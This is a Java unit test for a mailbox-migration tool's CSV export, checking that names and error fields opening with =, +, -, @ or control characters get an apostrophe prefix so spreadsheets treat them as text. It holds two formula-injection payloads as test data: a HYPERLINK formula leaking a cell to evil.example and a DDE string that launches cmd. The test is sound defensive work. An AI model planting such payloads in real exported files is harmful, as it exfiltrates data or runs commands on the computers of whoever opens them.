package be.cfwb.bma.internal.csv;

import be.cfwb.bma.Bma;
import be.cfwb.bma.address.BmaAddress;
import be.cfwb.bma.address.Inventory;
import be.cfwb.bma.address.Mailbox;
import be.cfwb.bma.address.MailboxSelection;
import be.cfwb.bma.calendar.PlanFiles;
import be.cfwb.bma.calendar.PlanningSettings;
import be.cfwb.bma.report.ReportWriter;
import be.cfwb.bma.transfer.FolderPath;
import be.cfwb.bma.transfer.FolderReport;
import be.cfwb.bma.transfer.MailboxReport;
import be.cfwb.bma.transfer.Pass;
import be.cfwb.bma.transfer.TransferReport;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV files ops open in a spreadsheet ({@code plan.csv}, {@code report.csv},
 * {@code migrate-report.csv}) never start a user-controlled field as a formula.
 */
class SpreadsheetFormulaTest {

    private static final Clock CLOCK = Clock.fixed(Instant.parse("2024-09-02T08:00:00Z"), ZoneOffset.UTC);
    private static final BmaAddress EC = BmaAddress.parse("ec099998@adm.cfwb.be");
    private static final BmaAddress PO = BmaAddress.parse("po099997@adm.cfwb.be");
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")";
    private static final String CMD = "+cmd|' /C calc'!A0";

    @TempDir
    Path tmp;

    @Test
    void eachFormulaTriggerIsPrefixedAndPlainTextAndNumbersAreNot() throws IOException {
        StringWriter out = new StringWriter();
        new CsvWriter(out, ',').row("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "École", "a=b", -5, 12L, "");
        List<String> fields = new CsvReader(new StringReader(out.toString()), ',').readAll().get(0).fields();
        assertThat(fields).containsExactly("'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "École", "a=b", "-5", "12", "");
    }

    @Test
    void schoolNamesInPlanAndReportAndFolderNamesInTheMigrateReportAreInert() throws IOException {
        Inventory inventory = Inventory.of(List.of(Mailbox.of(EC, HYPERLINK), Mailbox.of(PO, CMD)));
        Bma bma = Bma.configure().inventory(inventory).ledgerDirectory(tmp.resolve("ledger"))
                .outputDirectory(tmp.resolve("out")).clock(CLOCK).planning(PlanningSettings.defaults2024()).load();

        bma.plan(MailboxSelection.all());
        bma.report(MailboxSelection.all());
        assertThat(column(tmp.resolve("out").resolve(PlanFiles.CSV), "name")).containsExactlyInAnyOrder("'" + HYPERLINK, "'" + CMD);
        assertThat(column(tmp.resolve("out").resolve(ReportWriter.CSV), "name")).containsExactlyInAnyOrder("'" + HYPERLINK, "'" + CMD);

        FolderReport folder = new FolderReport(FolderPath.of("-Factures", "=2024"), "=cmd", List.of(), 1, 0, 0, 0, 0, 0, 0,
                List.of(), List.of(), Optional.of("-ERR " + HYPERLINK));
        TransferReport report = new TransferReport(Pass.PRESTAGE, CLOCK.instant(), Duration.ZERO, List.of(
                new MailboxReport(EC, Pass.PRESTAGE, CLOCK.instant(), Duration.ZERO, 0, List.of(folder), Optional.empty())), false);
        Path json = tmp.resolve("migrate-report.json");
        report.write(json);
        Path csv = tmp.resolve("migrate-report.csv");
        assertThat(column(csv, "folder")).containsExactly("'" + FolderPath.of("-Factures", "=2024").encoded());
        assertThat(column(csv, "target")).containsExactly("'=cmd");
        assertThat(column(csv, "error")).containsExactly("'-ERR " + HYPERLINK);
        assertThat(column(csv, "found_bytes")).containsExactly("0");
        assertThat(column(csv, "waived")).containsExactly("0");
    }

    private static List<String> column(Path csv, String name) throws IOException {
        String text = Files.readString(csv);
        char delimiter = text.lines().findFirst().orElseThrow().contains(";") ? ';' : ',';
        List<CsvRecord> records = new CsvReader(new StringReader(text), delimiter).readAll();
        int index = records.get(0).fields().indexOf(name);
        return records.subList(1, records.size()).stream().map(r -> r.fields().get(index)).toList();
    }
}
